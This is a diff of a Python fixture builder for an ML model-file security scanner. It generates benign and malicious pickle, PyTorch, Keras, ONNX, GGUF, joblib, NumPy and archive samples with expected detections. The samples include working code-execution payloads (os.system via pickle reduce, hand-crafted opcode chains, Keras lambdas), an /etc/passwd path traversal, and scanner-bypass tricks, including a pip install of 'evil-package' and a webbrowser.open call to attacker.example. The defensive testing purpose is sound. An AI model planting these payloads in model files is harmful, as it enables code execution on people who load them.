@@ -216,8 +216,7 @@ def torchscript(code: str, data_pkl: bytes) -> bytes:
 def torchscript_data() -> bytes:
     """data.pkl of a scripted module: a __torch__ class rebuilt with BUILD state."""
     return (
-        b"\x80\x02c__torch__.model\nNet\nq\x00)\x81q\x01}q\x02X\x08\x00\x00\x00trainingq\x03"
-        b"\x88sb."
+        b"\x80\x02c__torch__.model\nNet\nq\x00)\x81q\x01}q\x02X\x08\x00\x00\x00trainingq\x03\x88sb."
     )
 
 
@@ -238,13 +237,22 @@ EVIL_TS_CODE = """class Net(Module):
 # -- safetensors, GGUF, NumPy -------------------------------------------------------------------
 
 
-def safetensors_file(tensors: dict[str, tuple[str, list[int], bytes]], meta: dict[str, str] | None = None, *, header: dict[str, Any] | None = None) -> bytes:
+def safetensors_file(
+    tensors: dict[str, tuple[str, list[int], bytes]],
+    meta: dict[str, str] | None = None,
+    *,
+    header: dict[str, Any] | None = None,
+) -> bytes:
     hdr: dict[str, Any] = {}
     if meta is not None:
         hdr["__metadata__"] = meta
     data = b""
     for name, (dtype, shape, raw) in tensors.items():
-        hdr[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(data), len(data) + len(raw)]}
+        hdr[name] = {
+            "dtype": dtype,
+            "shape": shape,
+            "data_offsets": [len(data), len(data) + len(raw)],
+        }
         data += raw
     if header is not None:
         hdr = header
@@ -377,8 +385,12 @@ def onnx_model(nodes: list[tuple[str, str]], external: str | None = None) -> byt
 
 
 def saved_model(ops: list[str]) -> bytes:
-    graph = b"".join(pb_bytes(1, pb_bytes(1, f"n{i}") + pb_bytes(2, op)) for i, op in enumerate(ops))
-    fn = pb_bytes(1, pb_bytes(1, "__inference_fn")) + pb_bytes(3, pb_bytes(1, "f0") + pb_bytes(2, "Identity"))
+    graph = b"".join(
+        pb_bytes(1, pb_bytes(1, f"n{i}") + pb_bytes(2, op)) for i, op in enumerate(ops)
+    )
+    fn = pb_bytes(1, pb_bytes(1, "__inference_fn")) + pb_bytes(
+        3, pb_bytes(1, "f0") + pb_bytes(2, "Identity")
+    )
     graph += pb_bytes(2, pb_bytes(1, fn))
     meta = pb_bytes(1, pb_bytes(1, "serve")) + pb_bytes(2, graph)
     return pb_int(1, 1) + pb_bytes(2, meta)
@@ -392,7 +404,9 @@ def _lambda_blob(source: str) -> str:
     return base64.b64encode(marshal.dumps(code)).decode()
 
 
-def keras_config(lambda_source: str | None = None, custom_module: str | None = None) -> dict[str, Any]:
+def keras_config(
+    lambda_source: str | None = None, custom_module: str | None = None
+) -> dict[str, Any]:
     layers: list[dict[str, Any]] = [
         {
             "module": "keras.layers",
@@ -559,8 +573,13 @@ def build(marker: Path, tmp: Path) -> list[Sample]:
     np.save(good_npy, np.arange(12, dtype=np.float32).reshape(3, 4))
     stack_global_memo = (
         b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00"
-        b"\x8c\x02os\x94\x8c\x06system\x94" + b"00" + b"h\x00h\x01\x93\x94"
-        + b"\x8c" + bytes([len(cmd)]) + cmd.encode() + b"\x85R."
+        b"\x8c\x02os\x94\x8c\x06system\x94"
+        + b"00"
+        + b"h\x00h\x01\x93\x94"
+        + b"\x8c"
+        + bytes([len(cmd)])
+        + cmd.encode()
+        + b"\x85R."
     )
     getattr_chain = (
         b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(X\x02\x00\x00\x00ostRX\x06\x00"
@@ -571,74 +590,312 @@ def build(marker: Path, tmp: Path) -> list[Sample]:
     )
     samples = [
         # pickle, every protocol
-        Sample("benign-p0.pkl", pickle.dumps({"lr": 0.1, "layers": [1, 2]}, protocol=0), frozenset(), fmt="pickle"),
-        Sample("benign-p2.pkl", pickle.dumps(collections.OrderedDict(a=(1, 2.0, "x")), protocol=2), frozenset(), fmt="pickle"),
-        Sample("benign-p5.pkl", pickle.dumps({"blob": bytearray(b"\1" * 32), "s": {1, 2}}, protocol=5), frozenset(), fmt="pickle"),
+        Sample(
+            "benign-p0.pkl",
+            pickle.dumps({"lr": 0.1, "layers": [1, 2]}, protocol=0),
+            frozenset(),
+            fmt="pickle",
+        ),
+        Sample(
+            "benign-p2.pkl",
+            pickle.dumps(collections.OrderedDict(a=(1, 2.0, "x")), protocol=2),
+            frozenset(),
+            fmt="pickle",
+        ),
+        Sample(
+            "benign-p5.pkl",
+            pickle.dumps({"blob": bytearray(b"\1" * 32), "s": {1, 2}}, protocol=5),
+            frozenset(),
+            fmt="pickle",
+        ),
         Sample("evil-p0.pkl", os_system(marker, 0), crit, posix, fmt="pickle"),
         Sample("evil-p1.pkl", os_system(marker, 1), crit, posix, fmt="pickle"),
         Sample("evil-p4.pkl", evil, crit, posix, fmt="pickle"),
         Sample("evil-p5.pkl", os_system(marker, 5), crit, posix, fmt="pickle"),
         # PyTorch zip, legacy, TorchScript
         Sample("benign-pytorch_model.bin", torch_zip(good_state), frozenset(), fmt="pytorch-zip"),
-        Sample("evil-pytorch_model.bin", torch_zip(torch_state_pickle(extra=_Reduce(os.system, cmd))), crit, posix, fmt="pytorch-zip"),
-        Sample("benign-legacy.pt", torch_legacy(torch_legacy_state), frozenset(), fmt="pytorch-legacy"),
-        Sample("evil-legacy.pt", torch_legacy(lambda _f: {"w": _Reduce(os.system, cmd)}), crit, posix, fmt="pytorch-legacy"),
-        Sample("benign-scripted.pt", torchscript(BENIGN_TS_CODE, torchscript_data()), frozenset(), fmt="torchscript"),
-        Sample("evil-scripted.pt", torchscript(EVIL_TS_CODE, torchscript_data()), frozenset({"torchscript-op"}), fmt="torchscript"),
+        Sample(
+            "evil-pytorch_model.bin",
+            torch_zip(torch_state_pickle(extra=_Reduce(os.system, cmd))),
+            crit,
+            posix,
+            fmt="pytorch-zip",
+        ),
+        Sample(
+            "benign-legacy.pt", torch_legacy(torch_legacy_state), frozenset(), fmt="pytorch-legacy"
+        ),
+        Sample(
+            "evil-legacy.pt",
+            torch_legacy(lambda _f: {"w": _Reduce(os.system, cmd)}),
+            crit,
+            posix,
+            fmt="pytorch-legacy",
+        ),
+        Sample(
+            "benign-scripted.pt",
+            torchscript(BENIGN_TS_CODE, torchscript_data()),
+            frozenset(),
+            fmt="torchscript",
+        ),
+        Sample(
+            "evil-scripted.pt",
+            torchscript(EVIL_TS_CODE, torchscript_data()),
+            frozenset({"torchscript-op"}),
+            fmt="torchscript",
+        ),
         # safetensors
         Sample("benign.safetensors", benign_safetensors(), frozenset(), fmt="safetensors"),
-        Sample("evil.safetensors", evil_safetensors(), frozenset({"safetensors-invalid-header"}), fmt="safetensors"),
+        Sample(
+            "evil.safetensors",
+            evil_safetensors(),
+            frozenset({"safetensors-invalid-header"}),
+            fmt="safetensors",
+        ),
         # GGUF
         Sample("benign.gguf", gguf_file(BENIGN_TEMPLATE), frozenset(), fmt="gguf"),
         Sample("evil.gguf", gguf_file(EVIL_TEMPLATE), frozenset({"gguf-template"}), fmt="gguf"),
-        Sample("evil-obfuscated.gguf", gguf_file(EVIL_TEMPLATE_OBFUSCATED), frozenset({"gguf-template"}), fmt="gguf"),
-        Sample("benign-tokenizer_config.json", json.dumps({"chat_template": BENIGN_TEMPLATE, "eos_token": "</s>"}).encode(), frozenset(), fmt="json"),
-        Sample("evil-tokenizer_config.json", json.dumps({"chat_template": EVIL_TEMPLATE}).encode(), frozenset({"chat-template"}), fmt="json"),
+        Sample(
+            "evil-obfuscated.gguf",
+            gguf_file(EVIL_TEMPLATE_OBFUSCATED),
+            frozenset({"gguf-template"}),
+            fmt="gguf",
+        ),
+        Sample(
+            "benign-tokenizer_config.json",
+            json.dumps({"chat_template": BENIGN_TEMPLATE, "eos_token": "</s>"}).encode(),
+            frozenset(),
+            fmt="json",
+        ),
+        Sample(
+            "evil-tokenizer_config.json",
+            json.dumps({"chat_template": EVIL_TEMPLATE}).encode(),
+            frozenset({"chat-template"}),
+            fmt="json",
+        ),
         # ONNX
-        Sample("benign.onnx", onnx_model([("", "Relu"), ("com.microsoft", "FusedMatMul")], external="weights.bin"), frozenset(), fmt="onnx"),
-        Sample("evil.onnx", onnx_model([("", "Relu"), ("com.evil.ops", "Shell")], external="../../../../etc/passwd"), frozenset({"onnx-custom-op", "onnx-external-data"}), fmt="onnx"),
+        Sample(
+            "benign.onnx",
+            onnx_model([("", "Relu"), ("com.microsoft", "FusedMatMul")], external="weights.bin"),
+            frozenset(),
+            fmt="onnx",
+        ),
+        Sample(
+            "evil.onnx",
+            onnx_model(
+                [("", "Relu"), ("com.evil.ops", "Shell")], external="../../../../etc/passwd"
+            ),
+            frozenset({"onnx-custom-op", "onnx-external-data"}),
+            fmt="onnx",
+        ),
         # Keras
         Sample("benign.keras", keras_file(keras_config()), frozenset(), fmt="keras"),
-        Sample("evil.keras", keras_file(keras_config(f"__import__('os').system('{cmd}')")), frozenset({"keras-lambda"}), fmt="keras"),
-        Sample("evil-custom.keras", keras_file(keras_config(custom_module="evil_layers.backdoor")), frozenset({"keras-custom-object"}), fmt="keras"),
+        Sample(
+            "evil.keras",
+            keras_file(keras_config(f"__import__('os').system('{cmd}')")),
+            frozenset({"keras-lambda"}),
+            fmt="keras",
+        ),
+        Sample(
+            "evil-custom.keras",
+            keras_file(keras_config(custom_module="evil_layers.backdoor")),
+            frozenset({"keras-custom-object"}),
+            fmt="keras",
+        ),
         Sample("benign.h5", h5_file(tmp / "b.h5", keras_config()), frozenset(), fmt="hdf5"),
-        Sample("evil.h5", h5_file(tmp / "e.h5", keras_config(f"__import__('os').system('{cmd}')")), frozenset({"keras-lambda"}), fmt="hdf5"),
+        Sample(
+            "evil.h5",
+            h5_file(tmp / "e.h5", keras_config(f"__import__('os').system('{cmd}')")),
+            frozenset({"keras-lambda"}),
+            fmt="hdf5",
+        ),
         # TensorFlow SavedModel
-        Sample("benign-saved_model.pb", saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2"]), frozenset(), fmt="tf-savedmodel"),
-        Sample("evil-saved_model.pb", saved_model(["Placeholder", "ReadFile", "PyFunc"]), frozenset({"tf-dangerous-op"}), fmt="tf-savedmodel"),
+        Sample(
+            "benign-saved_model.pb",
+            saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2"]),
+            frozenset(),
+            fmt="tf-savedmodel",
+        ),
+        Sample(
+            "evil-saved_model.pb",
+            saved_model(["Placeholder", "ReadFile", "PyFunc"]),
+            frozenset({"tf-dangerous-op"}),
+            fmt="tf-savedmodel",
+        ),
         # joblib (plain and compressed)
-        Sample("benign.joblib", joblib_file({"coef": np.arange(10.0), "names": ["a", "b"]}), frozenset(), fmt="joblib"),
-        Sample("benign-compressed.joblib", joblib_file({"coef": np.arange(10.0)}, compress=3), frozenset(), fmt="zlib"),
-        Sample("evil.joblib", joblib_file({"coef": np.arange(4.0), "x": _Reduce(os.system, cmd)}), crit, posix, fmt="joblib"),
-        Sample("evil-compressed.joblib", joblib_file({"x": _Reduce(os.system, cmd)}, compress=3), crit, posix, fmt="zlib"),
+        Sample(
+            "benign.joblib",
+            joblib_file({"coef": np.arange(10.0), "names": ["a", "b"]}),
+            frozenset(),
+            fmt="joblib",
+        ),
+        Sample(
+            "benign-compressed.joblib",
+            joblib_file({"coef": np.arange(10.0)}, compress=3),
+            frozenset(),
+            fmt="zlib",
+        ),
+        Sample(
+            "evil.joblib",
+            joblib_file({"coef": np.arange(4.0), "x": _Reduce(os.system, cmd)}),
+            crit,
+            posix,
+            fmt="joblib",
+        ),
+        Sample(
+            "evil-compressed.joblib",
+            joblib_file({"x": _Reduce(os.system, cmd)}, compress=3),
+            crit,
+            posix,
+            fmt="zlib",
+        ),
         # NumPy
         Sample("benign.npy", good_npy.getvalue(), frozenset(), fmt="numpy"),
-        Sample("evil.npy", evil_npy.getvalue(), frozenset({"numpy-object-array", "pickle-global"}), posix, fmt="numpy-object"),
+        Sample(
+            "evil.npy",
+            evil_npy.getvalue(),
+            frozenset({"numpy-object-array", "pickle-global"}),
+            posix,
+            fmt="numpy-object",
+        ),
         Sample("benign.npz", npz({"a.npy": good_npy.getvalue()}), frozenset(), fmt="npz"),
-        Sample("evil.npz", npz({"a.npy": good_npy.getvalue(), "b.npy": evil_npy.getvalue()}), frozenset({"numpy-object-array", "pickle-global"}), posix, fmt="npz"),
+        Sample(
+            "evil.npz",
+            npz({"a.npy": good_npy.getvalue(), "b.npy": evil_npy.getvalue()}),
+            frozenset({"numpy-object-array", "pickle-global"}),
+            posix,
+            fmt="npz",
+        ),
         # archives
-        Sample("benign-model.tar.gz", tar_gz({"model/model.safetensors": benign_safetensors(), "model/config.json": b'{"model_type": "bert"}'}), frozenset(), fmt="tar.gz"),
-        Sample("evil-model.tar.gz", tar_gz({"model/model.pkl": evil, "model/config.json": b"{}"}), crit, posix, fmt="tar.gz"),
-        Sample("benign.7z", seven_zip({"model.safetensors": benign_safetensors()}, tmp), frozenset(), fmt="7z"),
+        Sample(
+            "benign-model.tar.gz",
+            tar_gz(
+                {
+                    "model/model.safetensors": benign_safetensors(),
+                    "model/config.json": b'{"model_type": "bert"}',
+                }
+            ),
+            frozenset(),
+            fmt="tar.gz",
+        ),
+        Sample(
+            "evil-model.tar.gz",
+            tar_gz({"model/model.pkl": evil, "model/config.json": b"{}"}),
+            crit,
+            posix,
+            fmt="tar.gz",
+        ),
+        Sample(
+            "benign.7z",
+            seven_zip({"model.safetensors": benign_safetensors()}, tmp),
+            frozenset(),
+            fmt="7z",
+        ),
         Sample("evil.7z", seven_zip({"weights/model.pkl": evil}, tmp), crit, posix, fmt="7z"),
-        Sample("evil-nested.zip", zip_file({"inner.tar.gz": tar_gz({"model/pytorch_model.bin": torch_zip(torch_state_pickle(extra=_Reduce(os.system, cmd)))})}), crit, posix, fmt="zip"),
-        Sample("benign-nested.zip", zip_file({"inner.tar.gz": tar_gz({"model/pytorch_model.bin": torch_zip(good_state)})}), frozenset(), fmt="zip"),
+        Sample(
+            "evil-nested.zip",
+            zip_file(
+                {
+                    "inner.tar.gz": tar_gz(
+                        {
+                            "model/pytorch_model.bin": torch_zip(
+                                torch_state_pickle(extra=_Reduce(os.system, cmd))
+                            )
+                        }
+                    )
+                }
+            ),
+            crit,
+            posix,
+            fmt="zip",
+        ),
+        Sample(
+            "benign-nested.zip",
+            zip_file({"inner.tar.gz": tar_gz({"model/pytorch_model.bin": torch_zip(good_state)})}),
+            frozenset(),
+            fmt="zip",
+        ),
         # published bypass classes
-        Sample("bypass-runpy.pkl", _reduce_global("runpy", "_run_code", (f"import os; os.system('{cmd}')", {})), crit, frozenset({("runpy", "_run_code")})),
-        Sample("bypass-getattr-chain.pkl", getattr_chain, crit, frozenset({("builtins", "getattr"), ("builtins", "__import__")})),
-        Sample("bypass-pip.pkl", _reduce_global("pip", "main", (["install", "evil-package"],)), crit, frozenset({("pip", "main")})),
-        Sample("bypass-subprocess.pkl", _reduce_global("subprocess", "Popen", (["touch", str(marker)],)), crit, frozenset({("subprocess", "Popen")})),
-        Sample("bypass-webbrowser.pkl", _reduce_global("webbrowser", "open", ("https://attacker.example/",)), crit, frozenset({("webbrowser", "open")})),
-        Sample("bypass-importlib.pkl", _reduce_global("importlib", "import_module", ("os",)), crit, frozenset({("importlib", "import_module")})),
-        Sample("bypass-torch-load-bytes.pkl", _reduce_global("torch.storage", "_load_from_bytes", (evil,)), crit, frozenset({("torch.storage", "_load_from_bytes")})),
-        Sample("bypass-unknown-module.pkl", _reduce_global("innocent_helpers.tools", "run", ("x",)), crit, frozenset({("innocent_helpers.tools", "run")})),
-        Sample("bypass-dotted-name.pkl", _reduce_global("collections", "OrderedDict.__init__.__globals__", ()), crit),
-        Sample("bypass-stack-global-memo.pkl", stack_global_memo, crit, frozenset({("os", "system")})),
-        Sample("bypass-broken-after-payload.pkl", broken_after_payload, frozenset({"pickle-global", "parse-error-after-suspicious-opcode"}), frozenset({("os", "system")})),
+        Sample(
+            "bypass-runpy.pkl",
+            _reduce_global("runpy", "_run_code", (f"import os; os.system('{cmd}')", {})),
+            crit,
+            frozenset({("runpy", "_run_code")}),
+        ),
+        Sample(
+            "bypass-getattr-chain.pkl",
+            getattr_chain,
+            crit,
+            frozenset({("builtins", "getattr"), ("builtins", "__import__")}),
+        ),
+        Sample(
+            "bypass-pip.pkl",
+            _reduce_global("pip", "main", (["install", "evil-package"],)),
+            crit,
+            frozenset({("pip", "main")}),
+        ),
+        Sample(
+            "bypass-subprocess.pkl",
+            _reduce_global("subprocess", "Popen", (["touch", str(marker)],)),
+            crit,
+            frozenset({("subprocess", "Popen")}),
+        ),
+        Sample(
+            "bypass-webbrowser.pkl",
+            _reduce_global("webbrowser", "open", ("https://attacker.example/",)),
+            crit,
+            frozenset({("webbrowser", "open")}),
+        ),
+        Sample(
+            "bypass-importlib.pkl",
+            _reduce_global("importlib", "import_module", ("os",)),
+            crit,
+            frozenset({("importlib", "import_module")}),
+        ),
+        Sample(
+            "bypass-torch-load-bytes.pkl",
+            _reduce_global("torch.storage", "_load_from_bytes", (evil,)),
+            crit,
+            frozenset({("torch.storage", "_load_from_bytes")}),
+        ),
+        Sample(
+            "bypass-unknown-module.pkl",
+            _reduce_global("innocent_helpers.tools", "run", ("x",)),
+            crit,
+            frozenset({("innocent_helpers.tools", "run")}),
+        ),
+        Sample(
+            "bypass-dotted-name.pkl",
+            _reduce_global("collections", "OrderedDict.__init__.__globals__", ()),
+            crit,
+        ),
+        Sample(
+            "bypass-stack-global-memo.pkl", stack_global_memo, crit, frozenset({("os", "system")})
+        ),
+        Sample(
+            "bypass-broken-after-payload.pkl",
+            broken_after_payload,
+            frozenset({"pickle-global", "parse-error-after-suspicious-opcode"}),
+            frozenset({("os", "system")}),
+        ),
         Sample("bypass-weights.msgpack", evil, crit, posix, fmt="pickle"),
-        Sample("bypass-zip-name-lie.zip", zip_file({"README.txt": evil, "weights.json": evil}), crit, posix),
-        Sample("bypass-zip-bad-crc.zip", zip_bad_crc("data.pkl", evil), frozenset({"pickle-global", "zip-crc-mismatch"}), posix),
-        Sample("bypass-zip-header-lie.zip", zip_name_lie("data.pkl", "data.txt", evil), frozenset({"pickle-global", "zip-name-mismatch"}), posix),
+        Sample(
+            "bypass-zip-name-lie.zip",
+            zip_file({"README.txt": evil, "weights.json": evil}),
+            crit,
+            posix,
+        ),
+        Sample(
+            "bypass-zip-bad-crc.zip",
+            zip_bad_crc("data.pkl", evil),
+            frozenset({"pickle-global", "zip-crc-mismatch"}),
+            posix,
+        ),
+        Sample(
+            "bypass-zip-header-lie.zip",
+            zip_name_lie("data.pkl", "data.txt", evil),
+            frozenset({"pickle-global", "zip-name-mismatch"}),
+            posix,
+        ),
         Sample("bypass-polyglot.pt", evil + torch_zip(good_state), crit, posix, fmt="pickle"),
     ]
     return samples
